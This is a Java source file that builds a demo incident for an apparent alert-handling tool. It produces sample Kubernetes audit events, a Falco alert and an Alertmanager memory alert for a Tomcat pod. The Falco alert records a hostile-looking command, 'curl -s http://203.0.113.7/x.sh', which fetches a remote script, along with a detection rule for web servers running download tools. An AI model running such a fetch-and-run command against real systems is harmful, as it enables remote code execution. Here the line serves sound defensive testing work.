package io.kordon.app.demo;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/**
 * The example, request by request, as the senders write it: somebody gets a Tomcat pod to run curl without a terminal,
 * and its memory passes 2 GiB.
 */
final class Scenario {
    /** Nine fraction digits, as Falco writes times. */
    private static final DateTimeFormatter NANOS =
            DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSSSSS'Z'").withZone(ZoneOffset.UTC);

    /** Six, as the API server does. */
    private static final DateTimeFormatter MICROS =
            DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'").withZone(ZoneOffset.UTC);

    private static final DateTimeFormatter CLOCK =
            DateTimeFormatter.ofPattern("HH:mm:ss.SSSSSSSSS").withZone(ZoneOffset.UTC);

    private final ScenarioPod pod;
    private final Instant now;

    Scenario(ScenarioPod pod, Instant now) {
        this.pod = pod;
        this.now = now;
    }

    /**
     * One request.
     *
     * @param what for a reader
     * @param sender whose request it is
     * @param body as sent
     */
    record Post(String what, Sender sender, String body) {}

    /** In the order that they are sent. */
    List<Post> posts() {
        return List.of(
                new Post("audit events: somebody lists the pods and looks at one", Sender.AUDIT, audit()),
                new Post("Falco: curl runs in the pod, with no terminal", Sender.FALCO, falco()),
                new Post("Alertmanager: the pod's memory is above 2 GiB", Sender.ALERTS, alertmanager()));
    }

    String falco() {
        Map<String, Object> fields = new LinkedHashMap<>();
        fields.put("container.id", pod.containerId());
        fields.put("container.image.repository", pod.image());
        fields.put("container.name", pod.container());
        fields.put("evt.time", now.getEpochSecond() * 1_000_000_000L + now.getNano());
        fields.put("evt.type", "execve");
        fields.put("k8s.ns.name", pod.namespace());
        fields.put("k8s.pod.name", pod.name());
        fields.put("k8s.pod.uid", pod.uid());
        fields.put("proc.cmdline", "curl -s http://203.0.113.7/x.sh");
        fields.put("proc.exepath", "/usr/bin/curl");
        fields.put("proc.name", "curl");
        fields.put("proc.pname", "java");
        fields.put("proc.tty", 0);
        fields.put("user.loginuid", -1);
        fields.put("user.name", "root");
        String output = CLOCK.format(now) + ": Warning RCE: a web server ran curl without a terminal"
                + " | process=curl -s http://203.0.113.7/x.sh parent=java user=root terminal=0"
                + " container_id=" + pod.containerId() + " k8s_ns_name=" + pod.namespace() + " k8s_pod_name="
                + pod.name();
        return json(map(
                "hostname",
                pod.node(),
                "output",
                output,
                "output_fields",
                fields,
                "priority",
                "Warning",
                "rule",
                "RCE: web server runs a download tool or shell without a terminal",
                "source",
                "syscall",
                "tags",
                List.of("T1190", "container", "mitre_execution", "mitre_initial_access"),
                "time",
                NANOS.format(now)));
    }

    String alertmanager() {
        Map<String, Object> labels = map(
                "alertname", "PodMemoryAbove2GiB",
                "container", pod.container(),
                "namespace", pod.namespace(),
                "node", pod.node(),
                "pod", pod.name(),
                "severity", "warning");
        Map<String, Object> annotations = map(
                "summary",
                "Pod " + pod.namespace() + "/" + pod.name() + " uses 2.476GiB of memory",
                "value",
                "2.658500608e+09");
        Map<String, Object> alert = map(
                "status",
                "firing",
                "labels",
                labels,
                "annotations",
                annotations,
                "startsAt",
                now.minusSeconds(90).truncatedTo(ChronoUnit.MILLIS).toString(),
                "endsAt",
                "0001-01-01T00:00:00Z",
                "generatorURL",
                "http://prometheus:9090/graph?g0.expr=container_memory_working_set_bytes",
                "fingerprint",
                fingerprint());
        return json(map(
                "receiver",
                "kordon",
                "status",
                "firing",
                "alerts",
                List.of(alert),
                "groupLabels",
                map("alertname", "PodMemoryAbove2GiB", "namespace", pod.namespace()),
                "commonLabels",
                labels,
                "commonAnnotations",
                annotations,
                "externalURL",
                "http://alertmanager:9093",
                "version",
                "4",
                "groupKey",
                "{}:{alertname=\"PodMemoryAbove2GiB\", namespace=\"" + pod.namespace() + "\"}",
                "truncatedAlerts",
                0));
    }

    String audit() {
        Map<String, Object> list = auditEvent(
                "list",
                "/api/v1/namespaces/" + pod.namespace() + "/pods?limit=500",
                map("resource", "pods", "namespace", pod.namespace(), "apiVersion", "v1"),
                200);
        Map<String, Object> get = auditEvent(
                "get",
                "/api/v1/namespaces/" + pod.namespace() + "/pods/" + pod.name(),
                map("resource", "pods", "namespace", pod.namespace(), "name", pod.name(), "apiVersion", "v1"),
                200);
        return json(map(
                "kind",
                "EventList",
                "apiVersion",
                "audit.k8s.io/v1",
                "metadata",
                Map.of(),
                "items",
                List.of(list, get)));
    }

    private Map<String, Object> auditEvent(String verb, String uri, Map<String, Object> object, int code) {
        return map(
                "level", "Metadata",
                "auditID",
                        UUID.nameUUIDFromBytes((uri + now).getBytes(StandardCharsets.UTF_8))
                                .toString(),
                "stage", "ResponseComplete",
                "requestURI", uri,
                "verb", verb,
                "user", map("username", "alice@example.com", "groups", List.of("developers", "system:authenticated")),
                "sourceIPs", List.of("192.0.2.15"),
                "userAgent", "kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9",
                "objectRef", object,
                "responseStatus", map("metadata", Map.of(), "code", code),
                "requestReceivedTimestamp", MICROS.format(now.minusSeconds(30)),
                "stageTimestamp", MICROS.format(now.minusSeconds(30).plusMillis(4)),
                "annotations", map("authorization.k8s.io/decision", "allow", "authorization.k8s.io/reason", ""));
    }

    /** Alertmanager hashes an alert's labels to 16 hexadecimal digits. */
    private String fingerprint() {
        return UUID.nameUUIDFromBytes((pod.namespace() + "/" + pod.name()).getBytes(StandardCharsets.UTF_8))
                .toString()
                .replace("-", "")
                .substring(0, 16);
    }

    private static Map<String, Object> map(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put(keysAndValues[i].toString(), keysAndValues[i + 1]);
        }
        return map;
    }

    private static String json(Object value) {
        try {
            return new ObjectMapper().writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException("maps, lists, numbers and texts are JSON", e);
        }
    }
}
